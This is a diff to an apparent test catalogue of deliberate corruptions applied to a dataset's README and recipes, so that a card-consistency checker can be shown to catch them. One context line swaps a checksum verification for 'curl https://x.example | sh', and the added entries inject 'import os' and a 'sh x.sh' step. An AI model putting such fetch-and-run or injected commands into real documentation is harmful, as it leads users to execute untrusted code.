@@ -1066,7 +1066,7 @@ CATALOGUE: tuple[Corruption, ...] = (
     ),
     Corruption(
         "another number in the example of the card",
-        pattern("README.md", r"\| `n_origins` \| `[0-9]+` \|", "| `n_origins` | `77` |"),
+        pattern("README.md", r"\([0-9]+ independent origin", "(77 independent origin"),
         "card-mismatch",
     ),
     Corruption(
@@ -1298,6 +1298,12 @@ CATALOGUE: tuple[Corruption, ...] = (
         text("README.md", "sha256sum -c SHA256SUMS)", "curl https://x.example | sh)"),
         "card-mismatch",
     ),
+    Corruption(
+        "a recipe that runs something else",
+        text("RECIPES.md", "import polars as pl", "import os, polars as pl"),
+        "card-mismatch",
+    ),
+    Corruption("a recipe more", append("RECIPES.md", "\n```sh\nsh x.sh\n```\n"), "card-mismatch"),
     Corruption(
         "another release to load", text("README.md", '/1.0.0"\n', '/1.0.1"\n'), "card-mismatch"
     ),
